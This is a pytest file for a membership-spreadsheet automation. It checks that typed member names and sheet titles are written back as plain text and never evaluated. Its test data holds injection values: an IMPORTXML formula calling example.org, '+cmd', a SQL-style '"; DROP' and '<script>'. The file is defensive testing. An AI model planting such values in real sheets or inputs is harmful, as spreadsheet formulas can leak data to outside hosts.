"""What people type is text, whatever it looks like: written back as it is, never executed, quoted right."""

from datetime import date

import pytest
from google_job import OnGoogle

NAMES = [
    '=IMPORTXML("http://example.org/"&A1;"//a")',
    "+cmd",
    "@x",
    "-2+3",
    "'apostrof",
    "0042",
    "K" * 40_000,
    "👩🏽‍🌾 Åse",
    "\u202eאבג",
    "a\x00b",
    '"; DROP',
    "<script>",
]


@pytest.mark.parametrize("tab", ["CO2", "Det'r", "Medl! A1:B2", "Medlemmer"])
def test_hostile_names_and_titles_are_text(service, tab):
    job = OnGoogle(service)
    sheet = job.book.add_sheet(tab, [["Medlemsnr", "Navn", "Innmeldt", "Velkomst sendt"]], spare_rows=20)
    for row, name in enumerate(NAMES, start=1):
        from sheets_on_loopback import Cell
        from sheets_on_loopback.book import typed

        sheet.rows[row][:3] = [Cell(str(2000 + row)), Cell(name), typed(date(2026, 5, 3))]
    worked = job.work("2026-06-01")
    assert worked.refused is None
    assert len(job.tasks()) >= len(NAMES) - 1
    assert service.outside == []
    for own in job.book.sheets:
        for row in own.rows:
            for cell in row:
                assert cell.formula is None or '"automations:' in cell.formula
                assert cell.formula is None or "IMPORTXML" not in cell.formula
    assert any(NAMES[0] in task["Oppgave"] for task in job.tasks())
    assert job.work("2026-06-01").examined.plan.empty


def test_a_formula_that_a_person_typed_is_read_as_what_it_shows_and_not_called_again(service):
    job = OnGoogle(service)
    job.book.add_sheet(
        "Medlemmer",
        [
            ["Medlemsnr", "Navn", "Innmeldt", "Velkomst sendt"],
            ["1", '=IMPORTXML("http://example.org/";"//a")', date(2026, 5, 3)],
        ],
    )
    assert job.work("2026-06-01").refused is None
    ours = [c for s in job.book.sheets if s.title != "Medlemmer" for row in s.rows for c in row if c.formula]
    assert ours
    assert all("IMPORT" not in cell.formula for cell in ours)
